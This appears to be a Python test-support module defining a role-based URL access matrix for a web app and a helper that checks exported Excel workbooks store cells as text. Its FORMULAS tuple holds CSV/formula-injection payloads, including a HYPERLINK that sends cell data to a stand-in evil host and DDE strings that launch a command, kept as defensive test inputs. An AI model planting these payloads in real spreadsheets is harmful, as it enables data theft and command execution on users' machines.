"""What the role-matrix test needs from each app: its URLs and who may open them.

Each app lists its URLs in `tests/access.py` as `CASES = [AccessCase(...), ...]`. The test in
`core/tests/test_url_access.py` fails when a named URL has no case, and opens every case as
the anonymous visitor and as each role.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

PUBLIC = "public"  # anyone, no login
LOGGED_IN = "logged_in"  # anyone logged in, with or without a role

ALL_ROLES = frozenset(
    {
        "staff",
        "unit_liaison",
        "unit_head",
        "office_staff",
        "office_director",
        "university_leader",
        "auditor",
        "administrator",
        "no_role",
    }
)
WITH_ROLE = ALL_ROLES - {"no_role"}
READERS = frozenset(
    {"office_staff", "office_director", "university_leader", "auditor", "administrator"}
)
OFFICE = frozenset({"office_staff", "office_director"})


@dataclass(frozen=True)
class AccessCase:
    url_name: str
    # Who gets 200: PUBLIC, LOGGED_IN, or a set of role names (see ALL_ROLES).
    allowed: str | frozenset[str]
    # Builds the URL's kwargs from the personas fixture (creates the objects it needs).
    kwargs: Callable[[Any], dict[str, Any]] | None = None
    query: str = ""
    # Some pages answer with a redirect even when allowed (e.g. log out).
    ok_status: tuple[int, ...] = (200,)
    method: str = "get"
    notes: str = field(default="", compare=False)

    def may(self, role: str | None) -> bool:
        if self.allowed == PUBLIC:
            return True
        if role is None:
            return False
        if self.allowed == LOGGED_IN:
            return True
        return role in self.allowed


# What every export's test needs: text a hostile user may type, and the check that an
# exported workbook keeps it as text (issue 14: formula injection).
FORMULAS = (
    '=HYPERLINK("https://evil.example/"&A2,"Open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def assert_written_as_text(response: Any, *texts: str) -> None:
    """No cell of the downloaded workbook is a formula, and each of `texts` is in it as a
    string that Excel shows as typed."""
    import io

    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    for text in texts:
        found = [cell for cell in cells if cell.value == text]
        assert found, text
        assert {(cell.data_type, cell.quotePrefix) for cell in found} == {("s", True)}
